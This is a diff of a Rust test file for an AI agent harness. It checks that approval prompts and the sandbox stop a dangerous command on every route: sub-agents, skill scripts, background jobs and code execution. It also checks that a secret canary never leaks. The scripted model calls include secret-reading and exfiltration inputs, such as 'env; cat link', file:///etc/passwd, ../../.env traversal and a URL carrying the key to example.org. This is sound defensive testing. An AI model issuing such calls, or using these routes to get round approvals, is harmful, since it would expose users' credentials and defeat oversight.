@@ -1,6 +1,7 @@
 //! Approvals and the sandbox, through every front end that runs without a terminal.
 
 use crate::process::{assert_identical, code, custom_model, finished, json_lines, stderr, stdout};
+use crate::pty::Terminal;
 use hermes_testkit::{FakeProvider, Fault, ReplyScript, TempHome};
 use serde_json::{Value, json};
 use std::path::PathBuf;
@@ -73,6 +74,7 @@ fn refusals(machine: &Machine) -> usize {
 struct Surface {
     name: &'static str,
     args: &'static [&'static str],
+    settings: &'static str,
     /// The first call of the model.
     call: ReplyScript,
     exit: i32,
@@ -85,8 +87,17 @@ async fn dangerous_command_is_denied_on_every_surface_without_a_user() {
     let tasks = json!({ "tasks": [{ "goal": "tidy up", "context": "" }] });
     let delegated = ReplyScript::call("delegate_task", tasks);
     let script = terminal("sh ../.hermes/skills/tidy/scripts/run.sh");
-    let surface =
-        |name, args, call: &ReplyScript, exit| Surface { name, args, call: call.clone(), exit, refused: 1 };
+    let background = ReplyScript::call("terminal", json!({ "command": DANGEROUS, "background": true }));
+    let inner = format!("from hermes_tools import terminal\nprint(terminal(command={DANGEROUS:?}))");
+    let inner = ReplyScript::call("execute_code", json!({ "code": inner }));
+    let surface = |name, args, call: &ReplyScript, exit| Surface {
+        name,
+        args,
+        settings: "",
+        call: call.clone(),
+        exit,
+        refused: 1,
+    };
     let direct = terminal(DANGEROUS);
     let surfaces = [
         surface("one-shot", &["-z", "go"], &direct, 77),
@@ -96,10 +107,16 @@ async fn dangerous_command_is_denied_on_every_surface_without_a_user() {
         surface("chat without a terminal", &["chat", "-q", "go"], &direct, 77),
         surface("sub-agent", &["-z", "go"], &delegated, 77),
         surface("script of a skill", &["-z", "go"], &script, 77),
+        surface("background command", &["-z", "go"], &background, 77),
+        // The interpreter may be in a directory that the sandbox hides.
+        Surface {
+            settings: "sandbox: {profile: full}\n",
+            ..surface("call of a script", &["-z", "go"], &inner, 77)
+        },
     ];
     for surface in surfaces {
         let name = surface.name;
-        let machine = Machine::new("").await;
+        let machine = Machine::new(surface.settings).await;
         machine.user.write(".hermes/skills/tidy/scripts/run.sh", DANGEROUS);
         let call = surface.call.clone();
         // Every prompt leads to an attempt, also those after a resumption.
@@ -131,6 +148,55 @@ async fn dangerous_command_is_denied_on_every_surface_without_a_user() {
         }
         assert!(machine.path("victim/kept.txt").exists(), "{name}, in the end");
     }
+}
+
+/// In a chat the same command waits for the user. Silence, a denial and the end of the turn do not run it.
+#[tokio::test(flavor = "multi_thread")]
+async fn dangerous_command_waits_for_the_user_of_a_terminal() {
+    let machine = Machine::new("approvals: {mode: manual, timeout: 1}\n").await;
+    machine.provider.answer_with(|body| {
+        match body["messages"].as_array().unwrap().last().unwrap()["role"] == "tool" {
+            true => ReplyScript::text("I could not."),
+            false => terminal(DANGEROUS),
+        }
+    });
+    let user = machine.user.path().to_str().unwrap().to_owned();
+    let home = machine.path(".hermes").to_str().unwrap().to_owned();
+    let env = [("HOME", user.as_str()), ("HERMES_HOME", home.as_str())];
+    let mut chat = Terminal::start_with(&machine.path("project"), &[], &env);
+    chat.expect("❯").await;
+    chat.type_keys("go\r");
+    chat.expect("Run it? ").await;
+    chat.expect("no answer within 1 s (approvals.timeout): not run").await;
+    chat.expect("I could not.").await;
+    let silence = machine.told()["error"].as_str().unwrap().to_owned();
+    assert!(silence.contains("Silence is not consent"), "{silence}");
+    chat.expect("❯").await;
+    chat.type_keys("/quit\r");
+    assert_eq!(chat.ended().await, 0);
+
+    let settings = machine.user.read(".hermes/config.yaml").replace("timeout: 1}", "timeout: 600}");
+    machine.user.write(".hermes/config.yaml", &settings);
+    let mut chat = Terminal::start_with(&machine.path("project"), &["--continue"], &env);
+    chat.expect("❯").await;
+    chat.type_keys("again\r");
+    chat.expect("Run it? ").await;
+    chat.type_keys("r\r");
+    chat.expect("Reason").await;
+    chat.type_keys("it is not yours\r");
+    chat.expect("I could not.").await;
+    let denied = machine.told()["error"].as_str().unwrap().to_owned();
+    assert!(denied.contains("it is not yours"), "{denied}");
+    assert_eq!(refusals(&machine), 2);
+    chat.expect("❯").await;
+    chat.type_keys("once more\r");
+    chat.expect("Run it? ").await;
+    chat.type_keys("\x03");
+    chat.expect("interrupted").await;
+    chat.expect("❯").await;
+    chat.type_keys("/quit\r");
+    assert_eq!(chat.ended().await, 0);
+    assert!(machine.path("victim/kept.txt").exists());
 }
 
 /// The directory may leave the project; what sub-agents may write may not.
@@ -381,10 +447,35 @@ fn curious_calls(canary: &str) -> Vec<ReplyScript> {
         call("memory", json!({ "action": "add", "target": "memory", "content": "The project is small." })),
         call("skills_list", json!({})),
         call("skill_view", json!({ "name": "../../.env" })),
-        call("delegate_task", json!({ "tasks": [{ "goal": "env", "context": "" }] })),
         call("clarify", json!({ "question": "Which key?" })),
         call("no_such_tool", json!({ "a": 1 })),
         call("terminal", json!({ "nonsense": true })),
+        call("terminal", json!({ "command": "env; cat link; cat", "background": true })),
+        call("process", json!({ "action": "list" })),
+        call("execute_code", json!({ "code": CURIOUS_SCRIPT })),
+        call("session_search", json!({ "query": &canary[..6] })),
+        call("skill_manage", json!({ "action": "write_file", "name": "x", "file_path": "../../.env" })),
+        call("web_extract", json!({ "urls": ["http://127.0.0.1:1/", "file:///etc/passwd"] })),
+        call("web_search", json!({ "query": "" })),
+    ]
+}
+
+const CURIOUS_SCRIPT: &str = "import os
+from hermes_tools import read_file, terminal
+print(dict(os.environ), terminal(command='env; cat link'), read_file(path='link'))
+print(open('link').read())
+";
+
+/// Calls of a model that knows the secret.
+fn quoting_calls(canary: &str) -> Vec<ReplyScript> {
+    let call = ReplyScript::call;
+    vec![
+        terminal(&format!("echo {canary}")),
+        call("execute_code", json!({ "code": format!("print('{canary}')") })),
+        call("web_extract", json!({ "urls": [format!("https://example.org/?key={canary}")] })),
+        call("web_search", json!({ "query": format!("what is {canary}") })),
+        call("session_search", json!({ "query": canary })),
+        call("search_files", json!({ "pattern": canary })),
     ]
 }
 
@@ -400,13 +491,22 @@ async fn canary_of_the_settings_appears_nowhere() {
         // A server that sends the secret back in its error.
         machine.provider.fault(Fault::status(400, &format!("bad key {canary}")));
         machine.run(&["--record", "failed", "-z", "go"]).await;
-        let last = quotes_it.then(|| terminal(&format!("echo {canary}")));
-        for attempt in curious_calls(canary).into_iter().chain(last) {
+        let quoting = if quotes_it { quoting_calls(canary) } else { Vec::new() };
+        // The last one, because a sub-agent would take the replies that follow.
+        let delegated =
+            ReplyScript::call("delegate_task", json!({ "tasks": [{ "goal": "env", "context": "" }] }));
+        for attempt in curious_calls(canary).into_iter().chain(quoting).chain([delegated]) {
             machine.provider.reply(attempt);
         }
         machine.provider.answer_with(|_| ReplyScript::text("Done."));
         let out = machine.run(&["--yolo", "--json", "--record", "tape", "-z", "go"]).await;
         let export = machine.run(&["sessions", "export", "all.jsonl"]).await;
+        let bodies = machine.provider.bodies();
+        let called = bodies.last().unwrap()["messages"].to_string();
+        for tool in bodies.last().unwrap()["tools"].as_array().unwrap() {
+            let name = tool["function"]["name"].as_str().unwrap();
+            assert!(called.contains(&format!("\"name\":\"{name}\"")), "{name} is not called");
+        }
         assert_eq!((code(&out), code(&export)), (0, 0), "{}{}", stderr(&out), stderr(&export));
         assert!(machine.user.read(".hermes/.env").contains(canary), "the file itself is kept");
         let results: String = machine
